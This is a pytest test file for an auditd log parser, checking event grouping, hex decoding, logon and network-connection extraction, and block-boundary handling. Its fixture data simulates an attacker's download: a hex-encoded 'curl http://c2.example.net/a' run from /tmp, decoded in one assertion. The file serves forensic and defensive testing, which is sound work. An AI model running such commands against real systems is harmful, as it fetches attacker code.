from __future__ import annotations

import zipfile
from functools import partial
from pathlib import Path

import pytest

from keii.readers.logs import Head, detect, syslog
from keii.readers.logs.auditd import decoded, socket_end
from keii.readers.logs.blocks import blocks
from tests.readers.logs.reading import Read, full_lines

EXEC = (
    b'type=SYSCALL msg=audit(1704164645.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=1 pid=9 auid=1000 comm="curl" '
    b'exe="/usr/bin/curl" key=(null)\n'
    b'node=fs1 type=SYSCALL msg=audit(1704164645.123:77): arch=c000003e syscall=59 success=yes comm="ls" exe="/bin/ls"\n'
    b'type=EXECVE msg=audit(1704164645.123:77): argc=2 a0="curl" a1=687474703A2F2F63322E6578616D706C652E6E65742F6120\n'
    b'type=CWD msg=audit(1704164645.123:77): cwd="/tmp"\n'
    b"type=PROCTITLE msg=audit(1704164645.123:77): proctitle=6375726C00687474703A2F2F63322E6578616D706C652E6E65742F61\n"
)
LOGON = (
    b'type=USER_LOGIN msg=audit(1704164646.5:78): pid=9 uid=0 auid=1000 ses=1 msg=\'op=login acct="eve" exe="/usr/sbin/sshd" '
    b"hostname=? addr=203.0.113.9 terminal=ssh res=failed'\n"
)
CONNECT = (
    b'type=SYSCALL msg=audit(1704164647.000:79): arch=c000003e syscall=42 success=yes exe="/usr/bin/curl"\n'
    b"type=SOCKADDR msg=audit(1704164647.000:79): saddr=020001BBCB0071090000000000000000\n"
)


def test_the_lines_of_an_event_are_one() -> None:
    assert detect(Head(EXEC, "x")).id == "auditd"  # type: ignore[union-attr]
    rows = Read(syslog.READER, EXEC).rows["generic"]
    assert [row["record"] for row in rows] == [1, 2]
    assert rows[0]["occurred"].isoformat() == "2024-01-02T03:04:05.123000+00:00"
    assert {"curl http://c2.example.net/a", "/usr/bin/curl", "/tmp"} <= set(rows[0]["values"])
    assert rows[0]["message"].count("\n") == 3


def test_logons_and_connections() -> None:
    found = Read(syslog.READER, LOGON + CONNECT)
    row = found.one("remote")
    assert (row["user"], row["src_ip"], row["success"], row["operation"]) == ("eve", "203.0.113.9", False, "USER_LOGIN")
    assert (found.one("network")["dst_ip"], found.one("network")["dst_port"]) == ("203.0.113.9", 443)


def test_decoding() -> None:
    assert decoded("exe", '"/bin/AB"', "SYSCALL") == "/bin/AB"
    assert decoded("a0", "CAFE", "SYSCALL") == "CAFE"
    assert decoded("name", "E697A5", "PATH") == "日"
    assert decoded("comm", "FF00FE", "SYSCALL") == "\\xff \\xfe"
    assert socket_end("0A0001BB00000000" + "20010DB8000000000000000000000005") == (
        "2001:0db8:0000:0000:0000:0000:0000:0005",
        "443",
    )
    assert socket_end("0100") is socket_end("zz") is None


@pytest.mark.parametrize(
    "name", ["auditd-logs", "auditd-base64-exec", "auditd-postexploit-exec-from-net", "auditd-suid-crash"]
)
def test_the_shelf(shelf: Path, name: str) -> None:
    with zipfile.ZipFile(shelf / "network-text/crowdsec-hub-tests.zip") as folder:
        data = folder.read(f"{name}/{name}.log")
    ids = {line.split(b"audit(")[1].split(b")")[0] for line in data.splitlines() if b"audit(" in line}
    found = Read(syslog.READER, data)
    assert found.good == len(ids)
    assert not found.skips
    assert sum(row["message"].count("\n") + 1 for row in found.rows["generic"]) == full_lines(data)


def _events(data: bytes, size: int, monkeypatch: pytest.MonkeyPatch) -> list[tuple[int, str]]:
    """Return first line and text of every event, read in blocks of about ``size`` bytes."""
    monkeypatch.setattr(syslog, "blocks", partial(blocks, size=size))
    rows = [row for part in Read(syslog.READER, data).rows.values() for row in part]
    return sorted((row["record"], row["message"] if "message" in row else row["more"]) for row in rows)


@pytest.mark.parametrize("size", [300, 1_000, 4_096])
def test_an_event_over_the_border_of_two_blocks_is_one(size: int, monkeypatch: pytest.MonkeyPatch) -> None:
    kinds = ("SYSCALL", "EXECVE", "CWD", "PROCTITLE")
    pairs = [(2 * number, 2 * number + 1) for number in range(60)]
    lines = [  # two events at a time, their lines alternate
        f'type={kind} msg=audit(1704164645.123:{event}): comm="x{event}"\n'
        for pair in pairs
        for kind in kinds
        for event in pair
    ]
    data = "".join(lines).encode()
    found = _events(data, size, monkeypatch)
    assert found == _events(data, 10**7, monkeypatch)
    assert [record for record, _ in found] == [8 * pair + 1 + place for pair in range(60) for place in (0, 1)]
    assert {text.count("\n") for _, text in found} == {3}


def test_one_endless_event_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    data = b'type=PATH msg=audit(1704164645.123:1): name="x"\n' * 5_000
    found = _events(data, 2_000, monkeypatch)
    counts = [text.count("\n") + 1 for _, text in found]
    assert sum(counts) == 5_000
    assert max(counts) <= 512
    assert len(found) < 30
